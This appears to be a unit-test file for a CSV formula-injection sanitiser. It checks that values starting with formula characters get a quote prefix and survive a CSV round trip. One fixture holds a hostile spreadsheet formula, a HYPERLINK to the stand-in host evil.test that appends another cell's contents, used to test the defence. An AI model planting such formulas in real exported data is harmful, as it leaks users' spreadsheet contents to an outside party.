import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { neutraliseFormula } from './csv-formula';

describe('neutraliseFormula', () => {
  it.each(['=1+1', '+79991234567', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('prefixes %j with a quote', (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`);
  });

  it.each(['Иван Петров', 'ivan@example.org', '2026-01-01T00:00:00.000Z', '', "'=already"])(
    'leaves %j alone',
    (value) => {
      expect(neutraliseFormula(value)).toBe(value);
    },
  );

  it('survives the CSV library round trip as one text cell', () => {
    const hostile = 'x;=HYPERLINK("http://evil.test/?"&E2,"open")\n=1';
    const csv = stringify([{ a: hostile }, { a: '=cmd' }], {
      columns: ['a'],
      quoted_string: true,
      cast: { string: neutraliseFormula },
    });
    expect(csv.startsWith('"x;=HYPERLINK(""')).toBe(true);
    expect(parse(csv)).toEqual([[hostile], ["'=cmd"]]);
  });
});
